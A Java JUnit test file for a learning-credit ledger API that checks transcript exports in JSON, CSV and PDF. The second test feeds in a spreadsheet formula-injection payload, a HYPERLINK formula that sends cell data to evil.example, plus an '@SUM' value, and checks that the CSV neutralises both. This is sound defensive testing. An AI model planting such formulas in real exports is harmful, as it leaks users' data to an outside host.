package org.creditbank.ledger.api;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.creditbank.ledger.log.NoteKeys;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.creditbank.ledger.api.Scenario.ALICE;
import static org.creditbank.ledger.api.Scenario.BOB;

/** Transcripts as JSON, CSV and a printable PDF, each stating the log checkpoint it is consistent with. */
class TranscriptTest {

    private final RunningLedger ledger = SharedLedger.get();
    private final Http http = ledger.http();

    @Test
    void a_transcript_lists_certified_achievements_with_totals_in_json_csv_and_pdf() throws Exception {
        String learner = Scenario.openAccount(http, ALICE, "Transcript Learner");
        String course = Scenario.record(http, ALICE, learner, Scenario.course("TR-1", "3.5"));
        http.post("/api/learners/" + learner + "/achievements/" + course + "/certification", "", BOB);
        String certificate = Scenario.record(http, ALICE, learner, Scenario.certificate("TR-2", "VC-TR-" + learner));
        http.post("/api/learners/" + learner + "/achievements/" + certificate + "/certification", "", BOB);
        Scenario.record(http, ALICE, learner, Scenario.course("TR-3", "9"));
        String key = http.get("/log/key").text().strip();
        VerifiableLogTest.awaitCheckpoint(http, NoteKeys.Verifier.parse(key), ledger.eventCount());
        String path = "/api/learners/" + learner + "/transcript";

        JsonNode json = http.get(path, "Accept", "application/json").json();
        assertThat(json.get("scope").asText()).isEqualTo("whole life");
        assertThat(json.get("lines")).hasSize(2);
        assertThat(json.get("totals").get(0).get("unit").asText()).isEqualTo("BANK_CREDIT");
        assertThat(json.get("totals").get(0).get("credits").decimalValue()).isEqualByComparingTo("15.5");
        long treeSize = json.get("checkpoint").get("treeSize").asLong();
        assertThat(treeSize).isPositive();
        assertThat(json.get("checkpoint").get("coversAllEvents").asBoolean()).isTrue();

        JsonNode institution = http.get(path + "?awardingBody=MOHRSS", "Accept", "application/json").json();
        assertThat(institution.get("lines")).hasSize(1);
        assertThat(institution.get("totals").get(0).get("credits").decimalValue()).isEqualByComparingTo("12");

        Http.Reply csv = http.get(path, "Accept", "text/csv");
        assertThat(csv.header("Content-Type")).startsWith("text/csv");
        List<String> rows = csv.text().lines().toList();
        assertThat(rows.get(0)).isEqualTo("row,achievedOn,kind,title,awardingBody,credits,unit,result,achievementId");
        assertThat(rows).filteredOn(row -> row.startsWith("ACHIEVEMENT,")).hasSize(2);
        assertThat(rows).anySatisfy(row -> assertThat(row).startsWith("TOTAL,").contains(",15.5,BANK_CREDIT,"));
        assertThat(rows.get(rows.size() - 1)).startsWith("CHECKPOINT,").contains("," + treeSize + ",");

        byte[] pdf = http.getBytes(path, "Accept", "application/pdf");
        assertThat(new String(pdf, 0, 5, java.nio.charset.StandardCharsets.US_ASCII)).isEqualTo("%PDF-");
        try (PDDocument document = Loader.loadPDF(pdf)) {
            String text = new PDFTextStripper().getText(document);
            assertThat(text).contains("Lifelong learning transcript", "Learner number: " + learner,
                    "Linear Algebra", "Electrician", "15.5 BANK_CREDIT from 2 achievement(s)",
                    "tree size " + treeSize);
        }
    }

    @Test
    void a_title_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
        String learner = Scenario.openAccount(http, ALICE, "Formula Learner");
        java.util.Map<String, Object> course = Scenario.course("CSV-1", "2");
        course.put("title", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"查看证书\")");
        course.put("awardingBody", "@SUM(1+1)");
        String id = Scenario.record(http, ALICE, learner, course);
        http.post("/api/learners/" + learner + "/achievements/" + id + "/certification", "", BOB);

        List<String> rows = http.get("/api/learners/" + learner + "/transcript", "Accept", "text/csv").text()
                .lines().toList();
        assertThat(rows).filteredOn(row -> row.startsWith("ACHIEVEMENT,")).singleElement().asString()
                .contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"查看证书\"\")\",\"'@SUM(1+1)\",2,");
        assertThat(String.join("\n", rows)).doesNotContain(",=", ",@", ",\"=", ",\"@");
    }
}
